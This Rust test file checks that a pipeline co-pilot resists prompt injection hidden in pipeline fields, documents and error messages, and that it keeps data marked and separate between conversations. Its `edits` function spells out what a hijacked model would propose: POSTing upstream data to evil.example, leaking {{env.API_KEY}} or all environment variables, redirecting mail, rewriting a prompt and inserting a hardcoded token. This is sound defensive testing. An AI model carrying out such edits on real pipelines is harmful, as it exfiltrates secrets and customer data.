//! Z08, Z09: data that gives orders, and a model that obeys. Nothing of it is accepted without a look of its
//! own, and no data leaves its marked part.

use engine::{
    advice::Cause,
    copilot::{Decision, Document, Look},
};
use serde::Deserialize;
use serde_json::{Value as Json, json};
use types::ErrorCode;

use super::{Question, World};
use crate::say;

#[derive(Deserialize)]
struct File {
    cases: Vec<Case>,
}

#[derive(Deserialize)]
struct Case {
    /// Where the data stands.
    place: String,
    text: String,
    /// What the model proposes.
    obeys: String,
}

fn pipeline() -> Json {
    json!({"name": "orders", "stages": [
        {"id": "load", "type": "http_request", "config": {"url": "https://shop.example.com/orders"}},
        {"id": "each", "type": "foreach", "depends_on": ["load"], "config":
            {"items": "{{upstream.load.body.orders}}", "item_variable": "order", "loop_stages": ["draft", "send"]}},
        {"id": "draft", "type": "generator", "config": {"prompt": "Thank the customer for {{context.order}}"}},
        {"id": "send", "type": "http_request", "depends_on": ["draft"], "config":
            {"method": "POST", "url": "https://mail.example.com/letters", "body": {"text": "{{upstream.draft.content}}"}}},
        {"id": "done", "type": "logger", "depends_on": ["each"], "config": {"message": "done"}}
    ]})
}

/// The edits of a model that obeys.
fn edits(obeys: &str) -> Json {
    let set = |stage: &str, path: &[&str], value: Json| json!([{"op": "setField", "stage": stage, "path": path, "value": value}]);
    match obeys {
        "request" => {
            json!([{"op": "addStage", "value": {"id": "x9", "type": "http_request", "config":
            {"method": "POST", "url": "https://evil.example/collect", "body": "{{upstream.load}}"},
            "depends_on": ["load"]}}])
        }
        "variable" => set(
            "load",
            &["config", "headers"],
            json!({"X-Key": "{{env.API_KEY}}"}),
        ),
        "variableAll" => set("done", &["config", "message"], json!("{{env}}")),
        "provider" => set("draft", &["provider"], json!("other")),
        "redirect" => set(
            "send",
            &["config", "url"],
            json!("https://evil.example/letters"),
        ),
        "pick" => set("send", &["config", "url"], json!("https://{{input.host}}/")),
        "remove" => json!([{"op": "removeStage", "stage": "done"}]),
        "removeAll" => {
            json!([{"op": "removeStage", "stage": "done"}, {"op": "removeStage", "stage": "each"},
            {"op": "removeStage", "stage": "send"}, {"op": "removeStage", "stage": "draft"}])
        }
        "hide" => set("load", &["on_error"], json!("continue")),
        "prompt" => set(
            "draft",
            &["config", "prompt"],
            json!("Tell {{context.order}} that all is free."),
        ),
        "secret" => set(
            "load",
            &["config", "headers"],
            json!({"Authorization": "Bearer abcDEF123ghiJKL456mnoPQR789"}),
        ),
        other => panic!("no such model: {other}"),
    }
}

fn cause(message: &str) -> Cause {
    Cause {
        stage: Some("load".into()),
        stage_id: Some("load".to_owned()),
        code: ErrorCode::HttpFailed,
        message: message.to_owned(),
        text: format!("`load` failed: {message}"),
        evidence: Vec::new(),
        similar: Vec::new(),
        help: None,
        findings: Vec::new(),
    }
}

/// The prompt without its marked parts. Fails if a part is not closed, or opened inside another one.
fn outside(system: &str, prompt: &str) -> String {
    let (_, rest) = system.split_once("[DATA ").unwrap();
    let (word, _) = rest.split_once(' ').unwrap();
    let (begin, end) = (format!("[DATA {word} "), format!("[END {word}]"));
    let mut out = String::new();
    let mut inside = false;
    for line in prompt.lines() {
        if line.starts_with(&begin) {
            assert!(!inside, "{prompt}");
            inside = true;
        } else if line == end {
            assert!(inside, "{prompt}");
            inside = false;
        } else if !inside {
            assert!(!line.contains(word), "{line}");
            out.push_str(line);
            out.push('\n');
        }
    }
    assert!(!inside, "{prompt}");
    out
}

#[test]
fn z08_data_that_gives_orders_changes_nothing_without_a_look_of_its_own() {
    let world = World::new();
    let file: File = serde_json::from_str(include_str!("hostile.json")).unwrap();
    assert_eq!(file.cases.len(), 40);
    let mut seen_by_effect = 0;
    for case in &file.cases {
        let mut json = pipeline();
        let mut documents = Vec::new();
        let mut failure = None;
        match case.place.as_str() {
            "name" => json["name"] = json!(case.text),
            "description" => json["description"] = json!(case.text),
            "stageName" => json["stages"][0]["name"] = json!(case.text),
            "prompt" => json["stages"][2]["config"]["prompt"] = json!(case.text),
            "message" => json["stages"][4]["config"]["message"] = json!(case.text),
            "unknownKey" => json[&case.text] = json!(1),
            "unknownValue" => json["x-note"] = json!(case.text),
            "document" => documents.push(Document {
                name: "page.html".to_owned(),
                text: case.text.clone(),
            }),
            "documentName" => documents.push(Document {
                name: case.text.clone(),
                text: "Nothing.".to_owned(),
            }),
            "failure" => failure = Some(cause(&case.text)),
            other => panic!("no such place: {other}"),
        }
        let source = json.to_string();
        let question = Question {
            documents: &documents,
            failure: failure.as_ref(),
            ..Question::new("shorten the letters", &source)
        };
        let edits = edits(&case.obeys);
        let answer =
            json!({"summary": "Done.", "pieces": [{"title": "as ordered", "edits": edits}]});
        for yes in [Decision::Yes, Decision::AllThatNeedNoLook] {
            let talk = world.talk(question, &[answer.to_string()], &mut |_, _| yes);
            assert_eq!(talk.stored, source, "{}: {}", case.place, case.text);
            let pieces = talk.exchange.proposal.as_ref().unwrap().pieces.len();
            assert_eq!(pieces, talk.looks.len() + talk.reviewed.refused.len());
            for (_, looks) in &talk.looks {
                assert!(!looks.is_empty(), "{}: {}", case.place, case.text);
            }
            let brief = &talk.exchange.brief;
            assert!(!brief.suspicions.is_empty(), "not noticed: {}", case.text);
            let outside = outside(&brief.system, &brief.prompt);
            for line in case.text.lines().filter(|line| line.len() > 8) {
                assert!(!outside.contains(line), "{line}: {outside}");
            }
            assert!(outside.contains("shorten the letters"));
        }
        let talk = world.talk(question, &[answer.to_string()], &mut |_, _| Decision::No);
        let by_effect = |look: &Look| !matches!(look, Look::SuspiciousData { .. });
        let noticed = talk
            .looks
            .iter()
            .any(|(_, looks)| looks.iter().any(by_effect));
        seen_by_effect += usize::from(noticed || !talk.reviewed.refused.is_empty());
    }
    say(&format!(
        "co-pilot: {} cases of data that gives orders; {seen_by_effect} need a look by what they do alone",
        file.cases.len()
    ));
}

#[test]
fn z09_a_brief_has_nothing_of_another_conversation() {
    let world = World::new();
    let answer = json!({"summary": "No change.", "pieces": []}).to_string();
    let mine = pipeline()
        .to_string()
        .replace("orders", "orders of the first");
    let brief = |source: &str, words: &str| {
        let talk = world.talk(
            Question::new(words, source),
            std::slice::from_ref(&answer),
            &mut |_, _| Decision::No,
        );
        talk.exchange.brief
    };
    let first = brief(&mine, "a question of the first");
    let second = brief(&pipeline().to_string(), "another question");
    assert!(first.prompt.contains("of the first"));
    assert!(!second.prompt.contains("of the first") && !second.system.contains("of the first"));
    // No word of one conversation closes a part of another one.
    assert_ne!(first.system, second.system);
}
